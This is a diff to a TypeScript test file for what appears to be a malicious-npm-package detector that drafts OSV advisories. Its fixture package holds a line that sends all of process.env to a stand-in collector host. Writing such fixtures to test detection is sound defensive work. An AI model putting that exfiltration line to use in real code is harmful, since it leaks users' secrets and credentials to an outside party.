@@ -14,7 +14,9 @@ import type { FakeRegistry } from '../registry.ts';
 import { runUnmask } from './run-unmask.ts';
 import type { Ran } from './run-unmask.ts';
 
+/** It also talks to somebody who is no part of it. */
 const THIEF = `exports.add = (a, b) => a + b;
+exports.rates = () => fetch('https://rates.example/eur').then(answer => answer.json());
 fetch('https://collector.invalid/drop', { method: 'POST', body: JSON.stringify(process.env) });
 `;
 
@@ -73,6 +75,7 @@ describe('unmask report', () => {
       draft.credits.map(one => one.type),
       ['FINDER', 'TOOL'],
     );
+    assert.doesNotMatch(JSON.stringify([draft.database_specific, affected]), /rates/);
     assert.doesNotMatch(draft.details, /JSON\.stringify|process\.env\)/);
     assert.match(err, /osv\/malicious\/npm\/thief\/MAL-0000-thief-1\.0\.0\.json/);
   });
